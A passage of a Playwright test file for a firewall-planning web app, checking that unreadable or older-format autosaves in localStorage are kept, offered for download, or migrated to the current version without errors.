    const [download] = await Promise.all([page.waitForEvent('download'), notice.getByRole('button', { name: 'Download the saved text' }).click()]);
    expect(download.suggestedFilename()).toBe('fwplan-unreadable-autosave.json');
  });

  test('an autosave from an older version (a bare plan object) never gives a blank page and is kept', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    const bare = JSON.stringify({ version: 1, name: 'Saved by an early build', roles: { PRD: ['192.0.2.10'], DNS: ['192.0.2.53'] }, disabled: ['prd-dvc-tcp-23'] });
    await app.openWithStorage({ [KEY]: bare });
    await expect(page.getByRole('navigation', { name: 'Steps' })).toBeVisible();
    await expect(new RolesPage(page).input('PRD')).toBeEditable();
    expect(guards.pageErrors).toEqual([]);
    // whatever happened to it, the saved text was not thrown away: it is in the slot or kept aside
    const kept = await page.evaluate((key) => [localStorage.getItem(key), localStorage.getItem(`${key}.unreadable`)], KEY);
    expect(kept.some((v) => v === bare) || kept.some((v) => v !== null && v.includes('Saved by an early build'))).toBe(true);
  });

  test('an autosave from an older version (a bare plan object) is migrated: its plan opens', async ({ page }) => {
    const app = new AppPage(guards.watch(page));
    const bare = JSON.stringify({ version: 1, name: 'Saved by an early build', roles: { PRD: ['192.0.2.10'], DNS: ['192.0.2.53'] }, disabled: ['prd-dvc-tcp-23'] });
    await app.openWithStorage({ [KEY]: bare });
    await expect(app.planName).toHaveValue('Saved by an early build');
    const roles = new RolesPage(page);
    await expect(roles.input('PRD')).toHaveValue('192.0.2.10');
    await expect(roles.input('DNS')).toHaveValue('192.0.2.53');
    // migrated, not damaged: no alert, the upgrade is said, and the slot now holds the current format
    await expect(page.getByRole('alert')).toHaveCount(0);
    await expect(app.upgradeNotice).toBeVisible();
    expect(await new RolesPage(page).nodeRows('PRD')).toEqual([['192.0.2.10', '192.0.2.10', '—']]);
    const slot = JSON.parse((await page.evaluate((key) => localStorage.getItem(key), KEY)) ?? '{}') as { version?: number; state?: { plan?: { name?: string; version?: number } } };
    expect(slot.version).toBe(2);
    expect(slot.state?.plan?.version).toBe(2);
    expect(slot.state?.plan?.name).toBe('Saved by an early build');
  });
});
